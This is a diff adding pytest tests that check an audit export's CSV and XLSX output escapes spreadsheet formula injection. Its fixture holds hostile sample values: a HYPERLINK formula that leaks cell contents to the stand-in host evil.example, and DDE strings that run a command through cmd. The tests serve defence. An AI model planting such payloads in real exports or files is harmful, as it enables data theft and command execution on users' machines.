@@ -472,3 +472,65 @@ def test_nothing_to_export_still_gives_the_headers(app, client):
         make_org(s)
     rows = read_csv(client.get("/audit/export?format=csv", headers={"Authorization": f"Bearer {token}"}))
     assert len(rows) == 2
+
+
+# -- formula injection (OWASP "CSV Injection") ---------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+@pytest.fixture
+def hostile(app):
+    """A producer's batch whose product is a spreadsheet formula and whose base starts with "+", recalled
+    with a reason that starts with "@" and corrected with one that starts with "-"; plus a regulator."""
+    with app.app_context(), db.write_session() as s:
+        world = make_world(s)
+        batch = make_batch(s, world["producer"], product=FORMULA, base="+1+cmd|' /C calc'!A0")
+        s.flush()
+        correct_batch(s, batch, {"fields": {"quantity": "520"}, "reason": "-2+3+cmd|' /C calc'!A0"},
+                      user=world["producer"])
+        recall_batch(s, batch, {"reason": "@SUM(1+1)*cmd|' /C calc'!A0"}, user=world["regulator"])
+        return {"code": batch.code, "token": issue_token(s, world["regulator"].username)}
+
+
+def test_csv_cells_that_would_start_a_formula_are_prefixed_with_a_quote(hostile, client):
+    response = client.get("/audit/export?format=csv", headers={"Authorization": f"Bearer {hostile['token']}"})
+    rows = [dict(zip([c[0] for c in COLUMNS], row, strict=True)) for row in read_csv(response)[2:]]
+    registered = next(r for r in rows if r["event"] == "batch.registered" and r["batch"] == hostile["code"])
+    assert registered["product"] == "'" + FORMULA
+    assert registered["base"] == "'+1+cmd|' /C calc'!A0"
+    correction = next(r for r in rows if r["event"] == "batch.corrected")
+    assert correction["product"] == "'" + FORMULA
+    recall = next(r for r in rows if r["event"] == "batch.recalled")
+    assert recall["reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    cells = [cell for row in read_csv(response) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert registered["harvest_date"] == "2026-08-01" and registered["unit"] == "kg"  # the rest as it was
+
+
+def test_xlsx_keeps_formula_text_as_an_inline_string_never_a_formula(hostile, client):
+    from openpyxl import load_workbook
+
+    response = client.get("/audit/export?format=xlsx", headers={"Authorization": f"Bearer {hostile['token']}"})
+    assert response.status_code == 200
+    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell holds a formula
+    sheet = load_workbook(io.BytesIO(response.data)).active  # not read-only: cells keep their data type
+    products = [row[8] for row in sheet.iter_rows(min_row=3)]
+    formula = [cell for cell in products if cell.value == FORMULA]
+    assert formula and all(cell.data_type == "s" for cell in formula)  # the exact text, as text
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
+def test_every_formula_trigger_that_opens_a_cell_is_escaped(value):
+    from traceapp.audit.export_formats import csv_safe
+
+    assert csv_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["黄桃", "2026-08-01", "1250.5", "a=b", "", None, 7, -1, "'=already quoted"])
+def test_cells_that_start_no_formula_are_left_alone(value):
+    from traceapp.audit.export_formats import csv_safe
+
+    assert csv_safe(value) == value
